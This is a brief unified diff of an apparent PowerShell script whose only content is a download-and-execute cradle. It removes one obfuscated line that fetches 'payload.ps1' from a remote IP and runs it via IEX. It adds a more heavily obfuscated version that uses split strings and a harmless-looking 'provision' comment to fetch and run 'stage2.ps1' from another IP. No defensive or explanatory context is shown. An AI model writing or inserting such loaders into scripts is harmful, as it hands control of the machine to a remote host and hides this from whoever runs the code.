@@ -1,3 +1,3 @@
-iex ('# '+'task 5704 v'+'3
-IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.200/paylo'+'ad.ps1'')
+iex ('# provision 2749 v3'+'
+IEX (New-Object Net.We'+'bClient).Do'+'w'+'nloadString(''http://198.51.100.9/s'+'tage2.ps1'')
 ')
